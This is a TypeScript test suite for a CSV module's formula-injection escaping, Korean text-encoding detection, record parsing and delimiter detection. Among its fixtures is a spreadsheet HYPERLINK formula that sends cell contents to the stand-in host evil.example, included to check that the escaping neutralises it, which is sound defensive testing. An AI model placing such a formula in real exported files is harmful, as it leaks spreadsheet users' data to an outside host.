import fc from 'fast-check';
import {
  decode,
  detectDelimiter,
  FileFault,
  recordsOf,
  type Delimiter,
} from '../../../../server/desk/files/csv/reading';
import { csvLines, plainCell, safeCell } from '../../../../server/desk/files/csv/writing';
import { columnOf } from '../../../../server/desk/files/imports/columns';

async function rowsOf(text: string, delimiter: Delimiter = ','): Promise<(readonly string[])[]> {
  const rows: (readonly string[])[] = [];
  for await (const { cells } of recordsOf(text, delimiter)) rows.push(cells);
  return rows;
}

async function faultOf(work: () => unknown): Promise<FileFault> {
  try {
    await work();
  } catch (error) {
    if (error instanceof FileFault) return error;
    throw error;
  }
  throw new Error('nothing was wrong');
}

describe('formulas', () => {
  test.each([
    ['=HYPERLINK("https://evil.example?"&A1,"click")', `'=HYPERLINK("https://evil.example?"&A1,"click")`],
    ['+82 10-1234-5678', "'+82 10-1234-5678"],
    ['-1+1', "'-1+1"],
    ['@SUM(1)', "'@SUM(1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['\n=1', "'\n=1"],
    ['＝1', "'＝1"],
    ["'=1", "''=1"],
    ['a=1', 'a=1'],
    ['010-1234-5678', '010-1234-5678'],
    ["'tis", "'tis"],
    ['', ''],
  ])('%j becomes %j', (text, safe) => {
    expect(safeCell(text)).toBe(safe);
    expect(plainCell(safe)).toBe(text);
  });

  test('numbers stay numbers, also below nothing', () => {
    expect(csvLines([[-3, 98_000, null, '-3']])).toBe("-3,98000,,'-3\r\n");
  });

  test('no cell that is written begins as a formula, and each comes back as it was', async () => {
    const cell = fc.oneof(
      fc.string(),
      fc.string({ unit: fc.constantFrom('=', '+', "'", '"', ',', '\n', '\r', '\t', '가', '@') }),
    );
    await fc.assert(
      fc.asyncProperty(fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), { minLength: 1 }), async (rows) => {
        const table = rows.map((row) => ['x', ...row]);
        const text = csvLines(table);
        expect(await rowsOf(text)).toEqual(table);
        for (const written of table.flat().map(safeCell)) expect(String(written)).not.toMatch(/^[=+\-@\t\r\n]/);
      }),
    );
  });
});

describe('encodings', () => {
  // "이름,가격\n향" in CP949, and 뷁 which EUC-KR proper has not.
  const korean = Buffer.from([0xc0, 0xcc, 0xb8, 0xa7, 0x2c, 0xb0, 0xa1, 0xb0, 0xdd, 0x0a, 0xc7, 0xe2, 0x94, 0xee]);

  test.each([
    ['UTF-8', Buffer.from('이름,가격\n향'), 'utf-8', '이름,가격\n향'],
    ['UTF-8 with its mark', Buffer.from('\uFEFF이름'), 'utf-8', '이름'],
    ['CP949', korean, 'euc-kr', '이름,가격\n향뷁'],
    ['UTF-16 as Excel writes it', Buffer.from('\uFEFF이름\t가격', 'utf16le'), 'utf-16le', '이름\t가격'],
    ['plain ASCII', Buffer.from('sku,price'), 'utf-8', 'sku,price'],
  ])('%s is read', (_name, bytes, encoding, text) => {
    expect(decode(bytes)).toEqual({ encoding, text });
  });

  test('UTF-8 with a bad byte is not taken for EUC-KR: the line is named', async () => {
    const bytes = Buffer.concat([
      Buffer.from('이름,가격\n비 온 뒤,98000\n백자'),
      Buffer.from([0xff]),
      Buffer.from(',1\n'),
    ]);
    expect(await faultOf(() => decode(bytes))).toMatchObject({ code: 'encoding', values: { line: 3 } });
  });

  test.each([
    ['nothing', Buffer.alloc(0), 'empty'],
    ['a picture', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0xff, 0xff]), 'encoding'],
    ['zeros', Buffer.alloc(100), 'binary'],
  ])('%s is refused', async (_name, bytes, code) => {
    expect((await faultOf(() => decode(bytes))).code).toBe(code);
  });
});

describe('records', () => {
  test('know the line they begin in, whatever stands between quotes', async () => {
    const records = [];
    for await (const { line, cells } of recordsOf('a,b\r\n"1\n1\n1",2\r\n\r\n3,"""4"""\n', ','))
      records.push([line, ...cells]);
    expect(records).toEqual([
      [1, 'a', 'b'],
      [2, '1\n1\n1', '2'],
      [6, '3', '"4"'],
    ]);
  });

  test.each([
    ['a,b\n1,"2\n3,4\n', 'quoteOpen'],
    ['a,b\n1,2"3\n', 'quotes'],
    ['a,b\n1,"2"3\n', 'quotes'],
    [`a\n"${'x'.repeat(250_000)}"`, 'recordLong'],
  ])('%j is refused', async (text, code) => {
    expect((await faultOf(() => rowsOf(text))).code).toBe(code);
  });

  test.each([
    ['sku,price\n', ','],
    ['SKU;가격\n', ';'],
    ['SKU\t가격\n', '\t'],
    ['"sku";"price, with a comma"\n', ';'],
    ['nothing known', ','],
  ])('the delimiter of %j is found', async (text, delimiter) => {
    expect(await detectDelimiter(text, (header) => columnOf(header) !== null)).toBe(delimiter);
  });
});
